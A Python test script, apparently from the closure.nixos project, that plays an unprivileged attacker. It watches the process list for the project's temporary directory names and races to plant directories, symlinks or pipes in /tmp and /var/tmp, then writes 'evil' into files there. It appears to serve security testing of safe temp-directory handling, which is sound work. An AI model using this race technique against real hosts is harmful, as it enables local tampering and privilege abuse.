# Copyright: (c) 2026, closure.nixos contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""An unprivileged user of a host, who reads the names of our directories in the process list.

Plants something for each that is not there yet, and writes into each that it may enter.
``_attacker.py ROOT``: the root directory of the host, as a path that root can open.
"""

from __future__ import annotations

import contextlib
import os
import pathlib
import random
import re
import sys
import typing as t

NOBODY = 65534
NAME = re.compile(rb"(/var/tmp|/tmp)/(closure-nixos-[A-Za-z0-9]{8,})")
# A directory of one's own, a link into it or elsewhere, and a pipe.
PLANTS: tuple[t.Callable[[str, int], None], ...] = (
    lambda name, place: os.mkdir(name, 0o777, dir_fd=place),
    lambda name, place: os.symlink("/tmp", name, dir_fd=place),
    lambda name, place: os.mkfifo(name, 0o666, dir_fd=place),
)
FILES = ("it", "script", "archive", "source.tar", "file")


def main() -> None:
    places = {
        place: os.open(f"{sys.argv[1]}{place}", os.O_RDONLY | os.O_DIRECTORY)
        for place in ("/tmp", "/var/tmp")
    }
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    print("watches", flush=True)
    while True:
        for entry in pathlib.Path("/proc").glob("[0-9]*"):
            look(entry, places)


def look(process: pathlib.Path, places: dict[str, int]) -> None:
    with contextlib.suppress(OSError):
        words = (process / "cmdline").read_bytes()
        for place, name in set(NAME.findall(words)):
            attack(name.decode(), places[place.decode()])


def attack(name: str, place: int) -> None:
    with contextlib.suppress(OSError):
        random.choice(PLANTS)(name, place)
    flags = os.O_WRONLY | os.O_CREAT | os.O_TRUNC
    for file in FILES:
        with contextlib.suppress(OSError):
            opened = os.open(f"{name}/{file}", flags, 0o666, dir_fd=place)
            os.write(opened, b"evil\n")
            os.close(opened)


if __name__ == "__main__":
    main()
